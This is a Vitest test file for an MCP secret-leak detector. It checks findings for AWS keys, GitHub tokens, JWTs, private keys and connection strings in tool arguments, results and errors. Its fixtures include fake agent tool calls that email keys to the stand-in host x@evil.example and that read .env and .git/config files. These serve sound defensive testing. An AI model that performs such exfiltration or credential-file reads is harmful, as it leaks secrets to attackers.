import { describe, expect, it } from 'vitest';
import { findingsOf, mcpEvent, runEvents, type EventInput } from '../../../helpers/engine-harness.js';

const ID = 'API-SECRET-LEAK';

// Fake, pattern-valid secrets assembled at runtime so repository secret scanners stay quiet.
const AWS_KEY = 'AKIA' + 'Q3EGRTWZ7NXJPLM4';
const RANDOM_VALUE = 'Zq7mK2vR9p' + 'L4xW8nB3';
const PAGE_CURSOR = 'CgVhYmNkZR' + 'IFZ2hpams';
const DB_URL = 'postgres://app:' + 'S3cr3tPa55word' + '@db.internal:5432/app';
const AWS_DOC_KEY = 'AKIA' + 'IOSFODNN7EXAMPLE';
const GITHUB = 'ghp_' + 'R4nd0mT0k3nV4lu3Abc123Def456Ghi789Jk';
const PRIVATE_KEY_HEADER = '-----BEGIN ' + 'OPENSSH PRIVATE KEY-----';
const JWT =
  'eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9' +
  '.' +
  'eyJzdWIiOiJ1c2VyLTQyIiwiYXVkIjoibWNwIn0' +
  '.' +
  'Qm9ndXNTaWduYXR1cmVGb3JUZXN0c09ubHkxMjM0NTY';

function call(args: unknown, overrides: Partial<EventInput> = {}) {
  return mcpEvent({
    event: 'mcp.call',
    time: 0,
    server: { name: 'app-mcp' },
    session: 'sess-1',
    principal: { sub: 'user-42' },
    rpc: { id: 1, method: 'tools/call' },
    tool: 'send_message',
    arguments: args,
    ...overrides,
  });
}

async function run(...events: ReturnType<typeof call>[]) {
  const result = await runEvents(events, { only: [ID] });
  expect(result.outcomes.flatMap((o) => Object.keys(o.detectorErrors))).toEqual([]);
  return findingsOf(result, ID);
}

describe('API-SECRET-LEAK', () => {
  it('known-format secrets in arguments → high (exfiltration)', async () => {
    const findings = await run(call({ to: 'x@evil.example', body: `keys: ${AWS_KEY} and ${GITHUB}` }));
    expect(findings.map((f) => [f.severity, f.subject, f.evidence])).toEqual([
      [
        'high',
        'tool=send_message direction=arguments kinds=aws-access-key-id,github-token',
        {
          direction: 'arguments',
          kinds: ['aws-access-key-id', 'github-token'],
          matches: 2,
          fields: ['body'],
        },
      ],
    ]);
    expect(findings[0]?.title).toBe('Secret (aws-access-key-id, github-token) sent in send_message');
  });

  it('random values under secret-named argument keys → medium; pagination tokens are not secrets', async () => {
    const findings = await run(
      call({ username: 'svc', password: RANDOM_VALUE }, { tool: 'login' }),
      call({ repo: 'a/b', page_token: PAGE_CURSOR }, { tool: 'list_issues' }),
    );
    expect(findings.map((f) => [f.severity, f.subject, f.evidence?.fields])).toEqual([
      ['medium', 'tool=login direction=arguments kinds=secret-named-argument', ['password']],
    ]);
  });

  it('secrets in results and error messages → medium; a real JWT in a result is a leak', async () => {
    const findings = await run(
      call(
        { path: '.env' },
        {
          tool: 'read_file',
          result: { text: `AWS_ACCESS_KEY_ID=${AWS_KEY}\n${PRIVATE_KEY_HEADER}\nb3BlbnNzaC1rZXk=` },
        },
      ),
      call({ id: 7 }, { tool: 'get_session', result: { text: `{"session":"${JWT}"}` } }),
      call({}, { tool: 'deploy', error: { code: -32603, message: `upstream rejected token ${GITHUB}` } }),
    );
    expect(findings.map((f) => [f.severity, f.subject, f.evidence?.fields])).toEqual([
      ['medium', 'tool=read_file direction=result kinds=aws-access-key-id,private-key', ['result.text']],
      ['medium', 'tool=get_session direction=result kinds=jwt', ['result.text']],
      ['medium', 'tool=deploy direction=result kinds=github-token', ['error.message']],
    ]);
  });

  it('secrets the instrumentation redacted ([REDACTED:<kind>]) are findings; evidence shows only the markers', async () => {
    const findings = await run(
      // Outbound: a key and a private key the agent tried to send, redacted at the source.
      call({ to: 'x@evil.example', body: 'keys: [REDACTED:aws-access-key] and [REDACTED:private-key] and [REDACTED:aws-access-key]' }),
      // Inbound: a result that held a GitHub token.
      call({ path: '/srv/app/.git/config' }, { tool: 'read_file', result: { text: 'url = https://x-access-token:[REDACTED:url-credential]@github.com/acme/app.git\n[REDACTED:github-token]' } }),
      // A redacted `password: …` value in arguments: a secret-named value (medium), not a known format.
      call({ note: 'db password: [REDACTED:secret-assignment]' }, { tool: 'save_note' }),
    );
    expect(findings.map((f) => [f.severity, f.subject, f.evidence])).toEqual([
      [
        'high',
        'tool=send_message direction=arguments kinds=aws-access-key,private-key',
        {
          direction: 'arguments',
          kinds: ['aws-access-key', 'private-key'],
          matches: 3,
          fields: ['body'],
          redactedMarkers: ['[REDACTED:aws-access-key]', '[REDACTED:private-key]'],
        },
      ],
      [
        'medium',
        'tool=read_file direction=result kinds=github-token,url-credential',
        {
          direction: 'result',
          kinds: ['github-token', 'url-credential'],
          matches: 2,
          fields: ['result.text'],
          redactedMarkers: ['[REDACTED:url-credential]', '[REDACTED:github-token]'],
        },
      ],
      [
        'medium',
        'tool=save_note direction=arguments kinds=secret-assignment',
        {
          direction: 'arguments',
          kinds: ['secret-assignment'],
          matches: 1,
          fields: ['note'],
          redactedMarkers: ['[REDACTED:secret-assignment]'],
        },
      ],
    ]);
  });

  it('near misses: [REDACTED] without a kind, REDACTED in prose, other shapes, redacted pagination tokens', async () => {
    const findings = await run(
      call({ username: 'svc', password: '[REDACTED]' }, { tool: 'login' }),
      call({ body: 'The names in this report were REDACTED by legal. See [REDACTED: annex B] and [redacted:aws-access-key].' }),
      call({ body: 'Marker docs: [REDACTED:] and [REDACTED:Aws Key] and [REDACTED:aws-access-key' }),
      call(
        { url: 'https://api.example.com/items?page_token=[REDACTED:secret-assignment]', cursor: '{"nextToken": "[REDACTED:secret-assignment]"}' },
        { tool: 'list_items', result: { text: 'items: 3, next_page_token=[REDACTED:secret-assignment]' } },
      ),
    );
    expect(findings).toEqual([]);
  });

  it('near misses: documented examples, UUIDs, git SHAs, sha256 digests, base64 images, env references', async () => {
    const doc = [
      `Configure: aws_access_key_id = ${AWS_DOC_KEY}`,
      'Request id 3f2a9c1e-7b4d-4e8f-9a0b-1c2d3e4f5a6b, commit 9fceb02d0ae598e95dc970b74767f19372d61af8',
      'digest sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      `![logo](data:image/png;base64,iVBORw0KGgo+${AWS_KEY}+AAAANSUhEUgAAAAEAAAAB)`,
      'password = process.env.DB_PASSWORD',
    ].join('\n');
    const findings = await run(
      call({ title: 'docs', body: doc }, { tool: 'create_page' }),
      call({ path: 'README.md' }, { tool: 'read_file', result: { text: doc } }),
      call(
        {
          commit: '9fceb02d0ae598e95dc970b74767f19372d61af8',
          request_id: '3f2a9c1e-7b4d-4e8f-9a0b-1c2d3e4f5a6b',
        },
        { tool: 'get_build' },
      ),
    );
    expect(findings).toEqual([]);
  });

  it('resource URIs with credentials count as outbound', async () => {
    const findings = await run(
      call(undefined, { tool: undefined, rpc: { id: 2, method: 'resources/read' }, uri: DB_URL }),
    );
    expect(findings.map((f) => [f.severity, f.subject])).toEqual([
      ['high', 'method=resources/read direction=arguments kinds=connection-string'],
    ]);
  });

  it('ignoreTools, scanResults and secretKeyArguments tune it; trusted callers do not suppress it', async () => {
    const events = [
      call({}, { tool: 'vault_read', result: { text: `token ${GITHUB}` } }),
      call({ password: RANDOM_VALUE }, { tool: 'login', time: 1 }),
      call({}, { tool: 'read_file', result: { text: `key ${AWS_KEY}` }, time: 2 }),
    ];
    const tuned = await runEvents(events, {
      only: [ID],
      config: {
        detectors: { [ID]: { ignoreTools: ['vault_*'], secretKeyArguments: false, scanResults: false } },
      },
    });
    expect(findingsOf(tuned, ID)).toEqual([]);
    const trusted = await runEvents(events.slice(2), {
      only: [ID],
      config: { allowLists: { principals: ['user-42'] } },
    });
    expect(trusted.alerts.map((a) => a.detector)).toEqual([ID]);
  });

  it('pathological 100 KB inputs finish', async () => {
    const adversarial = [
      'AKIA'.repeat(25_000),
      'password='.repeat(11_000),
      'eyJ'.repeat(33_000),
      'Bearer '.repeat(14_000),
      'sk-'.repeat(33_000),
      'postgres://a:'.repeat(7_000),
      '[REDACTED:'.repeat(10_000),
      'page_token=[REDACTED:secret-assignment]'.repeat(2_600),
    ];
    const events = adversarial.map((v, i) => call({ body: v }, { time: i, result: { text: v } }));
    const result = await runEvents(events, { only: [ID] });
    expect(result.outcomes.flatMap((o) => Object.keys(o.detectorErrors))).toEqual([]);
  });
});
